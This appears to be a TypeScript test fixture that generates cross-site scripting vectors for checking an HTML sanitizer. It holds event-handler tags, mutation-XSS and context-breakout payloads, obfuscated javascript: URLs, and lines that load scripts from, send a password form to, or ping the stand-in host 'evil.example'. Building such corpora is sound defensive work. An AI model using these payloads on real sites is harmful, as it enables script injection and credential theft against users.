/** Call of a script that runs; the page counts it. */
const RUN = "canari()";
/** A host that no page may ask for anything. */
export const CANARY_HOST = "evil.example";

const HANDLERS = [
  ["img src=x", "onerror"],
  ["svg", "onload"],
  ["svg><animate", "onbegin"],
  ["body", "onload"],
  ["video><source", "onerror"],
  ["audio src=x", "onerror"],
  ["input autofocus", "onfocus"],
  ["select autofocus", "onfocus"],
  ["textarea autofocus", "onfocus"],
  ["details open", "ontoggle"],
  ["marquee", "onstart"],
  ["iframe", "onload"],
  ["object data=x", "onerror"],
  ["p style='animation:x 1s'", "onanimationstart"],
  ["a href=# autofocus tabindex=1", "onfocus"],
] as const;

/** Signs that parsers take for the end of a name. */
const SEPARATORS = [" ", "/", "\t", "\n", "\f"];

function handlers(): string[] {
  return HANDLERS.flatMap(([tag, handler], n) => {
    const separator = SEPARATORS[n % SEPARATORS.length] ?? " ";
    return [
      `<${tag}${separator}${handler}=${RUN}>`,
      `<${tag}${separator}${handler.toUpperCase()}="${RUN}"//`,
      `<${tag} ${handler}=&#99;anari()>`,
    ];
  });
}

const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//${CANARY_HOST}/x.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script\n>${RUN}</script\n>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe src="https://${CANARY_HOST}/"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<form action="https://${CANARY_HOST}/"><input name=password></form>`,
  `<button formaction="javascript:${RUN}" autofocus>x</button>`,
  `<meta http-equiv=refresh content="0;url=https://${CANARY_HOST}/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="https://${CANARY_HOST}/">`,
  `<link rel=stylesheet href="https://${CANARY_HOST}/x.css">`,
  `<link rel=preload as=script href="https://${CANARY_HOST}/x.js">`,
  `<style>@import "https://${CANARY_HOST}/x.css";</style>`,
  `<style>body{background:url(https://${CANARY_HOST}/x.png)}</style>`,
  `<p style="background:url(https://${CANARY_HOST}/x.png)">x</p>`,
  `<p style="position:fixed;inset:0;z-index:99999">x</p>`,
  `<img src="https://${CANARY_HOST}/pixel.gif">`,
  `<img src=x srcset="https://${CANARY_HOST}/pixel.gif 1x">`,
  `<picture><source srcset="https://${CANARY_HOST}/a.png"><img src=x></picture>`,
  `<video poster="https://${CANARY_HOST}/p.png" src="https://${CANARY_HOST}/v.mp4"></video>`,
  `<a href="/" ping="https://${CANARY_HOST}/">x</a>`,
  `<input type=image src="https://${CANARY_HOST}/x.png" onerror=${RUN}>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<textarea><p title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<title><p title="</title><img src=x onerror=${RUN}>"></title>`,
  `<style><p title="</style><img src=x onerror=${RUN}>"></style>`,
  `<iframe><p title="</iframe><img src=x onerror=${RUN}>"></iframe>`,
  `<noembed><p title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
  `<noframes><p title="</noframes><img src=x onerror=${RUN}>"></noframes>`,
  `<template><script>${RUN}</script></template>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math><mi><style><img src=x onerror=${RUN}></style></mi></math>`,
  `<svg><desc><style><img src=x onerror=${RUN}></style></desc></svg>`,
  `<svg><style><img/src=x onerror=${RUN}></style></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
  `<svg><set attributeName=href to=javascript:${RUN}></svg>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<table><td><form><input></td></table><img src=x onerror=${RUN}>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!--!><img src=x onerror=${RUN}>-->`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `<plaintext><img src=x onerror=${RUN}>`,
  `<img src=x id=admin_token name=body onerror=${RUN}>`,
  `<form id=document><input name=cookie></form>`,
  `<img """><script>${RUN}</script>">`,
  `<img src='x' onerror='${RUN}'`,
  `<p title="\`"><img src=x onerror=${RUN}></p>`,
  `<dialog open><iframe src=javascript:parent.${RUN}></dialog>`,
  `<portal src="https://${CANARY_HOST}/"></portal>`,
  `<frameset onload=${RUN}>`,
  `<isindex type=image src=x onerror=${RUN}>`,
  `<keygen autofocus onfocus=${RUN}>`,
  `${"<b>".repeat(600)}<img src=x onerror=${RUN}>`,
];

/** Texts that break out of the contexts in which pages write them: hydration data, structured data, attributes, titles.
 *  */
export const BREAKOUTS = [
  `</script><script>${RUN}</script>`,
  `<!--<script>${RUN}`,
  `]]><script>${RUN}</script>`,
  `\u2028${RUN}//`,
  String.raw`\u003c/script>\u003cscript>${RUN}\u003c/script>`,
  String.raw`\"-${RUN}-\"`,
  `"><script>${RUN}</script>`,
  `'-${RUN}-'`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `"/><img src=x onerror=${RUN}>`,
  "${" + RUN + "}",
  `{{constructor.constructor('${RUN}')()}}`,
  `javascript:${RUN}`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `＜script＞${RUN}＜/script＞`,
];

/** URLs that run something, or lead elsewhere than they seem to. */
export function dangerousUrls(): string[] {
  const schemes = [
    "javascript",
    "vbscript",
    "data",
    "JaVaScRiPt",
    "java\tscript",
    "java\nscript",
    "java\rscript",
    " javascript",
    "\u0001javascript",
    "\u00a0javascript",
    "javascript\u200b",
    "feed:javascript",
    "view-source",
    "blob",
    "file",
    "filesystem",
    "ftp",
    "about",
    "livescript",
    "mocha",
    "ws",
  ];
  const bodies = [`:${RUN}`, `://%0a${RUN}`, `&#58;${RUN}`];
  const others = [
    `data:text/html,<script>${RUN}</script>`,
    `data:image/svg+xml,<svg onload=${RUN}>`,
    `data:text/html;base64,PHNjcmlwdD4=`,
    `//${CANARY_HOST}/`,
    `\\\\${CANARY_HOST}\\`,
    `/\\${CANARY_HOST}`,
    `/\t/${CANARY_HOST}`,
    `https:${CANARY_HOST}`,
    `http:/${CANARY_HOST}`,
    `&#106;avascript:${RUN}`,
    `%6aavascript:${RUN}`,
    `./javascript:${RUN}`,
    `?javascript:${RUN}`,
    `mailto\n:x`,
    `https://a b/`,
    `https://`,
    `x:y`,
  ];
  return [...schemes.flatMap((scheme) => bodies.map((body) => scheme + body)), ...others];
}

/** HTML that runs, frames, loads or covers. */
export function htmlVectors(): string[] {
  const links = dangerousUrls().map((url) => `<a href="${url.replaceAll('"', "&quot;")}">x</a>`);
  return [...handlers(), ...ELEMENTS, ...BREAKOUTS, ...links];
}
